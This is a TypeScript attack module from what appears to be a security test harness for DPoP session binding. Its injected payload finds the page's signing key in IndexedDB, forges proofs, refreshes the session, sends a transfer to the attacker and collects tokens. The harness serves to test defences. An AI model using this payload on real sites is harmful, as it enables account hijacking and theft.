// Threat: a script injected into the page finds the page's key (a handle: the browser does not give the key itself away), renews the session
// with proofs of its own and acts. The attacker has one hole in the page's HTML and has read the library. Expected: the handle works for
// every script of the origin while the page is open; what it makes is worth nothing elsewhere.
import { stopped, succeeded, type Attack } from '../attack.ts'
import type { Scene } from '../scene.ts'
import { fruitless, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

/** How many proofs for later it takes along: each is good once. */
export const STOCK = 30

// One script for both attacks on the key: a payload travels as text, so it cannot borrow from another.
export const useKey: Payload = async (kit) => {
  const find = async (): Promise<CryptoKeyPair | undefined> => {
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name)
        opening.addEventListener('success', () => resolve(opening.result))
        opening.addEventListener('error', () => reject(opening.error ?? new Error('closed')))
      })
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store).getAll()
        await new Promise((done) => all.addEventListener('success', done))
        for (const value of all.result as Partial<CryptoKeyPair>[])
          if (value.privateKey instanceof CryptoKey) return value as CryptoKeyPair
      }
    }
    return undefined
  }
  const encode = (bytes: ArrayBuffer): string =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '')
  const utf8 = (text: string) => new TextEncoder().encode(text)
  const pair = await find()
  if (pair === undefined) return
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey)
  const prove = async (method: string, path: string, nonce?: string, token?: string): Promise<string> => {
    const claims = {
      jti: crypto.randomUUID(),
      htm: method,
      htu: location.origin + path,
      iat: Math.floor(Date.now() / 1000),
      nonce,
      ath: token && encode(await crypto.subtle.digest('SHA-256', utf8(token))),
    }
    const head = { typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } }
    const text = [head, claims].map((part) => encode(utf8(JSON.stringify(part)).buffer)).join('.')
    return `${text}.${encode(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, utf8(text)))}`
  }
  await crypto.subtle.exportKey('jwk', pair.privateKey).then(
    (key) => kit.take('key', JSON.stringify(key)),
    () => undefined,
  )
  const post = async (path: string, body: unknown, token?: string, nonce?: string): Promise<Response> =>
    fetch(path, {
      method: 'POST',
      body: JSON.stringify(body),
      headers: {
        'content-type': 'application/json',
        dpop: await prove('POST', path, nonce, token),
        ...(token !== undefined && { authorization: `DPoP ${token}` }),
      },
    })
  const nonce = (await post('/api/auth/refresh', {})).headers.get('dpop-nonce') ?? undefined
  const answer = await post('/api/auth/refresh', {}, undefined, nonce)
  const { accessToken } = (await answer.json()) as { accessToken?: string }
  if (accessToken === undefined) return
  if (kit.params['stock'] === undefined) await post('/api/transfer', { to: kit.params['to'] }, accessToken, nonce)
  else
    for (let index = 0; index < Number(kit.params['stock']); index++)
      kit.take(`proof${index}`, await prove('GET', '/api/profile', nonce, accessToken))
  kit.take('token', accessToken)
}

export const noKey = ({ bound }: Scene['target']): string | undefined =>
  bound === true ? undefined : 'there is no key: whatever is stolen works without one'

export const keyHandle: Attack = {
  name: 'key-handle',
  group: 'script, late',
  title: 'Uses the page’s key to renew the session and to act',
  what: 'The script finds the key in IndexedDB, tries to export it, makes proofs with it, renews the session and sends money.',
  why: 'The browser keeps the key from being copied, not from being used: every script of the origin may sign with it while the page is open.',
  stops:
    'Nothing but keeping the script out. That the key and what it makes stay here is what binding is for: the damage ends with the page.',
  script: { when: 'late', payload: useKey },
  control: 'hallpass-bound',
  succeedsOn: ['hallpass-bound'],
  inapplicable: noKey,
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(useKey, { to: scene.attacker.email })
    await readBook(page)
    const report = await scriptReport(scene)
    const exported = report.kinds.includes('key') ? 'the key itself was exported' : 'the key itself was not given away'
    if (report.kinds.includes('token')) {
      const { asVictim, status } = await scene.useOutside('token')
      const elsewhere = `elsewhere the API answered ${status} to the token it was given`
      if (asVictim) return succeeded(`${exported}; ${elsewhere}`)
      if (scene.ledger.find({ deed: 'transfer', by: scene.victim.email, detail: scene.attacker.email }).length > 0)
        return succeeded(`${exported}; the server counted a transfer, proven by the script; ${elsewhere}`)
    }
    return stopped(fruitless(scene, report, `${exported}; the server counted no transfer`))
  },
}
